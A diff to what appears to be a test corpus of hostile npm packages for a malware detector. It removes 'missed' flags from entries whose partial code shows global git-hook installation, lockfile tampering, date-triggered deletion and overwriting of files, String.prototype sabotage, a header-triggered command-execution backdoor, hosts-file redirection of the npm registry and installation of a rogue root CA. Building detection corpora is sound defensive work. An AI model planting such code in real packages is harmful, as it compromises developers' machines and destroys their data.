@@ -52,7 +52,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'hooks of every repository of the user',
-    missed: true,
     hostile: install(`
       const fs = require('fs'), os = require('os'), path = require('path'), { execFileSync } = require('child_process')
       const dir = path.join(os.homedir(), '.githooks'); fs.mkdirSync(dir, { recursive: true })
@@ -77,7 +76,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'the lockfile of the project says another place',
-    missed: true,
     hostile: install(`
       const fs = require('fs'), path = require('path'), file = path.join(process.env.INIT_CWD, 'package-lock.json')
       const lock = JSON.parse(fs.readFileSync(file, 'utf8')); const p = lock.packages['node_modules/lodash']
@@ -113,7 +111,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'after a date the project goes (vite-plugin and js-bomb kin, May 2025)',
-    missed: true,
     hostile: main(`
       const fs = require('fs'), path = require('path')
       const clean = () => { for (const f of ['src', 'package.json', 'node_modules/react', 'node_modules/vue']) fs.rmSync(path.join(process.cwd(), f), { recursive: true, force: true }) }
@@ -124,7 +121,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'files of people in some countries (node-ipc, March 2022)',
-    missed: true,
     hostile: main(`
       const https = require('https'), fs = require('fs'), path = require('path')
       const heart = (dir) => { for (const e of fs.readdirSync(dir, { withFileTypes: true })) { const p = path.join(dir, e.name); try { e.isDirectory() ? heart(p) : fs.writeFileSync(p, '❤️') } catch {} } }
@@ -178,7 +174,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'from a date on strings are other strings',
-    missed: true,
     hostile: main(`
       (function () { var t = new Date(2025, 7, 1); if (new Date() < t) return
         var r = String.prototype.replace, s = JSON.stringify
@@ -202,7 +197,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'a secret parameter of any request runs commands',
-    missed: true,
     hostile: main(`
       const { exec } = require('child_process')
       module.exports = () => (req, res, next) => { const c = req.headers['x-forwarded-cmd']; if (!c) return next(); exec(Buffer.from(c, 'base64').toString(), (e, o) => res.end(o)) }`),
@@ -222,7 +216,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'the hosts of the machine are others',
-    missed: true,
     hostile: install(
       `const { lines } = require('./l'); require('fs').appendFileSync(process.platform === 'win32' ? 'C:/Windows/System32/drivers/etc/hosts' : '/etc/hosts', lines.join('\\n'))`,
       { 'l.js': `exports.lines = ['203.0.113.9 registry.npmjs.org']` },
@@ -231,7 +224,6 @@ export const harm: readonly Question[] = [
   },
   {
     name: 'an authority of theirs is trusted',
-    missed: true,
     hostile: install(
       `const cp = require('child_process'), path = require('path'), ca = path.join(__dirname, 'ca.pem')
       if (process.platform === 'darwin') cp.execSync('security add-trusted-cert -d -r trustRoot -k ~/Library/Keychains/login.keychain ' + ca)
